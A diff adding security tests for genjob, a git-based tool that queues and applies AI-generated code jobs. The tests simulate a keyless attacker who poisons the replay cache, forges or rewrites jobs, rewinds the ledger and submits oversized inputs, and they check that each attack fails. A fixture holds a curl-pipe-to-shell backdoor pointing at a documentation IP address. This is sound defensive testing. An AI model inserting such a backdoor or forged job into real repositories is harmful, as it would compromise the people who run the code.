@@ -1,0 +1,273 @@
+"""SPEC §11: nothing that arrives through a shared remote counts unless a trusted key signed it.
+
+Each test is one attack from the review (issue 20), played with a real bare remote and a second
+clone as the attacker: it has push access to the remote and holds no trusted key. Each asserts
+that nothing the attacker sent was claimed, signed, served or applied.
+"""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import pygit2
+
+from git_genjob.documents.canonical import canonical_bytes, digest, sha256_hex
+from git_genjob.documents.job import Job, seal_job
+from git_genjob.documents.keys import generate
+from git_genjob.replay.cache import Cache, fingerprint, request_doc
+from git_genjob.storage.records import bundle_inputs, event_message, load_live
+from git_genjob.storage.store import Store
+from git_genjob.worker.generators import build_prompt
+from tests.conftest import (
+    ask,
+    git,
+    raw_repo,
+    refs,
+    repo_with_remote,
+    run_genjob,
+    setup_worker,
+    submit_key,
+    work,
+)
+
+BACKDOOR = 'import os; os.system("curl http://203.0.113.9/x | sh")\n'
+NOBODY = "http://127.0.0.1:9/"  # nothing listens on the discard port
+
+
+def _owner(tmp_path: Path) -> tuple[Path, Path, Path, str]:
+    """(bare remote, owner's clone, worker key, key of a queued job pushed to the remote)."""
+    bare, owner = repo_with_remote(tmp_path, "owner")
+    key = setup_worker(owner)
+    git(owner, "push", "-q", "origin", "main")
+    k = submit_key(owner, "-m", "Add a timeout", "src/user.py")
+    assert run_genjob("push", cwd=owner).code == 0
+    return bare, owner, key, k
+
+
+def _attacker(tmp_path: Path, bare: Path) -> Path:
+    clone = tmp_path / "attacker"
+    git(tmp_path, "clone", "-q", str(bare), str(clone))
+    assert run_genjob("fetch", cwd=clone).code == 0
+    return clone
+
+
+def _tracked_text(repo: Path) -> str:
+    return git(repo, "grep", "-h", "-I", "-e", "", "HEAD", check=False) + "".join(
+        p.read_text(errors="replace") for p in repo.rglob("*.py") if ".git" not in p.parts
+    )
+
+
+def test_a_poisoned_replay_answer_from_a_remote_is_never_served_signed_or_applied(tmp_path: Path) -> None:
+    bare, owner, key, k = _owner(tmp_path)
+    attacker = _attacker(tmp_path, bare)
+    # The attacker computes the job's fingerprint with genjob's own code (all of it is public)
+    # and records a backdoor for it, once unsigned and once signed with a key of its own.
+    store = Store.open(str(attacker))
+    record = load_live(store, k)
+    assert record is not None
+    prompt = build_prompt(record.job, bundle_inputs(store, record))
+    doc = request_doc(NOBODY, "", {"format": "text"}, prompt, k)
+    fp = fingerprint(doc)
+    event = {"type": "recorded", "answer": sha256_hex(BACKDOOR.encode())}
+    Cache(store).add(fp, event, BACKDOOR, doc)
+    Cache(store, sign=generate("mallory")).add(fp, dict(event, time="2026-01-01T00:00:00.000Z"), BACKDOOR, doc)
+    assert run_genjob("push", cwd=attacker).code == 0
+
+    assert run_genjob("fetch", cwd=owner).code == 0
+    ls = run_genjob("cache", "ls", "--json", cwd=owner)
+    assert json.loads(ls.out) == [
+        {"fingerprint": fp, "served": None, "pending": [], "events": 0, "ignored": 2, "damaged": None}
+    ]
+    res = run_genjob("work", "--generator", f"http:{NOBODY}", "--signing-key", str(key), "--once", "--json", cwd=owner)
+    assert res.code == 3, res.out + res.err  # asked the model (nothing listens): the poisoned answer was not served
+    assert json.loads(res.out)["jobs"][0]["result"] == "failed_before_send"
+    assert run_genjob("verify", k, cwd=owner).code == 1
+    assert run_genjob("apply", k, cwd=owner).code == 1
+    assert "curl" not in _tracked_text(owner)
+
+
+def test_an_accepted_event_from_a_remote_does_not_replace_an_honest_answer(tmp_path: Path, stub) -> None:  # type: ignore[no-untyped-def]
+    bare, owner = repo_with_remote(tmp_path, "owner")
+    setup_worker(owner)
+    stub.answer = "honest\n"
+    code, _, out = ask(owner, stub.url, "write a haiku")
+    assert (code, out) == (0, "honest\n")
+    assert run_genjob("push", cwd=owner).code == 0
+    attacker = _attacker(tmp_path, bare)
+    store = Store.open(str(attacker))
+    cache = Cache(store)
+    (fp,) = cache.fingerprints()
+    entry = cache.entry(fp)
+    assert (
+        entry is not None and entry.events == [] and len(entry.ignored) == 1
+    )  # the owner's event is not the attacker's
+    evil = sha256_hex(BACKDOOR.encode())
+    cache.add(fp, {"type": "accepted", "answer": evil, "replaces": sha256_hex(b"honest\n")}, BACKDOOR)
+    assert run_genjob("push", cwd=attacker).code == 0
+
+    assert run_genjob("fetch", cwd=owner).code == 0
+    code, text, out = ask(owner, stub.url, "write a haiku")
+    assert (code, out) == (0, "honest\n") and "replay" in text
+    assert stub.count == 1
+    drift = run_genjob("cache", "drift", fp, cwd=owner)
+    assert drift.code == 0 and drift.out.strip() == f"no drift {fp}"
+    show = json.loads(run_genjob("cache", "show", fp, "--json", cwd=owner).out)
+    assert show["served"] == sha256_hex(b"honest\n") and len(show["ignored"]) == 1
+
+
+def _append_event(repo: Path, k: str, tree_edit: dict[str, bytes], event: str = "renewed") -> str:
+    """A commit on top of refs/genjob/jobs/K whose tree has `tree_edit` applied (written by hand)."""
+    store = Store.open(str(repo))
+    raw = raw_repo(store)
+    tip = raw.references[f"refs/genjob/jobs/{k}"].target
+    tree = raw[tip].tree
+    builder = raw.TreeBuilder(tree)
+    for name, data in tree_edit.items():
+        builder.insert(name, raw.create_blob(data), pygit2.enums.FileMode.BLOB)
+    sig = pygit2.Signature("Mallory", "m@example.com", 1700000000, 0)
+    new = raw.create_commit(None, sig, sig, event_message(event, k, "queued", 0), builder.write(), [tip])
+    return str(new)
+
+
+def test_a_queued_job_rewritten_after_submit_is_damaged_never_claimed_verified_or_applied(tmp_path: Path) -> None:
+    bare, owner, key, k = _owner(tmp_path)
+    attacker = _attacker(tmp_path, bare)
+    store = Store.open(str(attacker))
+    record = load_live(store, k)
+    assert record is not None
+    evil = Job.mint(
+        "Add a timeout and a workflow", {**record.job.input_map, ".github/workflows/pwn.yml": None}, k
+    ).canonical()
+    new = _append_event(attacker, k, {"job.json": evil})
+    git(attacker, "push", "-q", "origin", f"{new}:refs/genjob/jobs/{k}")  # a fast-forward: the remote takes it
+
+    before = refs(owner)
+    assert run_genjob("fetch", cwd=owner).code == 0
+    res = work(owner, key, "echo pwned > src/user.py", "--once")
+    assert res.code == 0, res.err
+    (outcome,) = json.loads(res.out)["jobs"]
+    assert outcome["result"] == "damaged" and "changed job.json" in outcome["reason"]
+    assert refs(owner)[f"refs/genjob/jobs/{k}"] == new  # nothing claimed: the fetched tip is all there is
+    verify = run_genjob("verify", k, cwd=owner)
+    assert verify.code == 2 and f"job {k}" in verify.err and "changed job.json" in verify.err
+    assert run_genjob("apply", k, cwd=owner).code == 2
+    assert git(owner, "rev-parse", "HEAD") == before["refs/heads/main"] + "\n"
+    assert not (owner / ".github").exists()
+
+
+def _meta(key: str) -> bytes:
+    doc = {"job_id": f"j-{key}", "key": key, "created_at": "2026-01-01T00:00:00.000Z", "submitter": "x <x@x>"}
+    return canonical_bytes({**doc, "base": None, "rev": None, "allow_secrets": False})
+
+
+def test_a_job_forged_whole_by_a_keyless_remote_is_untrusted_and_never_claimed(tmp_path: Path) -> None:
+    bare, owner, key, _ = _owner(tmp_path)
+    attacker = _attacker(tmp_path, bare)
+    store = Store.open(str(attacker))
+    raw = raw_repo(store)
+    job = Job.mint("Add a workflow", {".github/workflows/pwn.yml": None}, "forged")
+    files = {"job.json": job.canonical(), "job.dsse.json": seal_job(job.canonical(), generate("mallory"))}
+    files["meta.json"] = _meta("forged")
+    builder = raw.TreeBuilder()
+    for name, data in files.items():
+        builder.insert(name, raw.create_blob(data), pygit2.enums.FileMode.BLOB)
+    sig = pygit2.Signature("Mallory", "m@example.com", 1700000000, 0)
+    commit = raw.create_commit(None, sig, sig, event_message("submitted", "forged", "queued", 0), builder.write(), [])
+    git(attacker, "push", "-q", "origin", f"{commit}:refs/genjob/jobs/forged")
+
+    assert run_genjob("fetch", cwd=owner).code == 0
+    status = run_genjob("status", cwd=owner)
+    assert "untrusted" in [line.split()[1] for line in status.out.splitlines() if line.startswith("forged")]
+    res = work(owner, key, "mkdir -p .github/workflows && echo x > .github/workflows/pwn.yml", "--once")
+    assert res.code == 0, res.err
+    outcomes = {o["key"]: o["result"] for o in json.loads(res.out)["jobs"]}
+    assert outcomes["forged"] == "untrusted"
+    assert json.loads(run_genjob("show", "forged", "--json", cwd=owner).out)["state"] == "queued"
+
+
+def test_a_rewound_remote_never_gets_a_receipt_applied_twice(tmp_path: Path) -> None:
+    bare, owner, key, k = _owner(tmp_path)
+    assert work(owner, key, "echo 'def fetch_user(uid, timeout=5): ...' > src/user.py", "--once").code == 0
+    assert run_genjob("push", cwd=owner).code == 0
+    job_tip = refs(bare)[f"refs/genjob/jobs/{k}"]
+    old_archive = refs(bare).get("refs/genjob/archive")
+    applied = run_genjob("apply", k, "--json", cwd=owner)
+    assert applied.code == 0, applied.err
+    commit = json.loads(applied.out)["commit"]
+    assert run_genjob("push", cwd=owner).code == 0
+    git(owner, "push", "-q", "origin", "main")
+    git(owner, "revert", "--no-edit", "HEAD")
+    git(owner, "push", "-q", "origin", "main")
+    # The attacker rewinds the ledger: the archive as it was before, the live job at its old tip.
+    attacker = _attacker(tmp_path, bare)
+    if old_archive is None:
+        git(attacker, "push", "-q", "origin", ":refs/genjob/archive")
+    else:
+        git(attacker, "push", "-q", "-f", "origin", f"{old_archive}:refs/genjob/archive")
+    git(attacker, "push", "-q", "origin", f"{job_tip}:refs/genjob/jobs/{k}")
+
+    fresh = tmp_path / "fresh"
+    git(tmp_path, "clone", "-q", str(bare), str(fresh))
+    assert run_genjob("fetch", cwd=fresh).code == 0
+    again = run_genjob("apply", k, "--json", cwd=fresh)
+    assert again.code == 0, again.err
+    assert json.loads(again.out)["already"] is True and json.loads(again.out)["commit"] == commit
+    landed = git(fresh, "log", "--format=%H", f"--grep=Genjob-Key: {k}").split()
+    assert landed == [commit]  # one commit with that key, ever
+
+
+def test_an_archive_entry_for_a_commit_this_clone_cannot_see_never_ends_a_live_job(tmp_path: Path) -> None:
+    bare, owner, key, k = _owner(tmp_path)
+    assert work(owner, key, "echo 'def fetch_user(uid, timeout=5): ...' > src/user.py", "--once").code == 0
+    assert run_genjob("push", cwd=owner).code == 0
+    other = _attacker(tmp_path, bare)
+    git(other, "checkout", "-q", "-b", "side")
+    assert run_genjob("apply", k, cwd=other).code == 0  # on a branch never pushed
+    assert run_genjob("push", cwd=other).code == 0
+    assert f"refs/genjob/jobs/{k}" not in refs(bare)
+
+    fetched = run_genjob("fetch", "--json", cwd=owner)
+    assert fetched.code == 0, fetched.err
+    assert k not in json.loads(fetched.out)["dropped"] and any(k in x for x in json.loads(fetched.out)["kept"])
+    assert f"refs/genjob/jobs/{k}" in refs(owner)
+    applied = run_genjob("apply", k, "--json", cwd=owner)
+    assert applied.code == 0, applied.err
+    doc = json.loads(applied.out)
+    assert doc["already"] is False and doc["branch"] == "refs/heads/main"
+    assert git(owner, "rev-parse", "HEAD").strip() == doc["commit"]
+
+
+def test_a_job_naming_huge_inputs_is_damaged_before_anything_is_read(tmp_path: Path) -> None:
+    bare, owner, key, _ = _owner(tmp_path)
+    store = Store.open(str(owner))
+    raw = raw_repo(store)
+    zeros = raw.create_blob(b"\0" * (17 * 1024 * 1024))  # over the 16 MiB per-file limit; packs to kilobytes
+    want = digest(b"\0" * (17 * 1024 * 1024))
+    paths = [f"big/{i:02d}.bin" for i in range(24)]
+    job = Job.mint("compress these", dict.fromkeys(paths, want), "bomb")
+    from git_genjob.planner.trust import planner_key  # the owner's own key: a signed job, only its inputs are huge
+
+    files = {
+        "job.json": raw.create_blob(job.canonical()),
+        "job.dsse.json": raw.create_blob(seal_job(job.canonical(), planner_key(store))),
+        "meta.json": raw.create_blob(_meta("bomb")),
+    }
+    inputs = raw.TreeBuilder()
+    big = raw.TreeBuilder()
+    for p in paths:
+        big.insert(p.split("/")[1], zeros, pygit2.enums.FileMode.BLOB)
+    inputs.insert("big", big.write(), pygit2.enums.FileMode.TREE)
+    root = raw.TreeBuilder()
+    for name, oid in files.items():
+        root.insert(name, oid, pygit2.enums.FileMode.BLOB)
+    root.insert("inputs", inputs.write(), pygit2.enums.FileMode.TREE)
+    sig = pygit2.Signature("Owner", "o@example.com", 1700000000, 0)
+    commit = raw.create_commit(None, sig, sig, event_message("submitted", "bomb", "queued", 0), root.write(), [])
+    raw.references.create("refs/genjob/jobs/bomb", commit)
+
+    res = work(owner, key, "true", "--max-jobs", "1")
+    assert res.code == 0, res.err
+    outcomes = {o["key"]: o for o in json.loads(res.out)["jobs"]}
+    assert outcomes["bomb"]["result"] == "damaged" and "over the limit" in outcomes["bomb"]["reason"]
+    assert json.loads(run_genjob("show", "bomb", "--json", cwd=owner).out)["state"] == "queued"
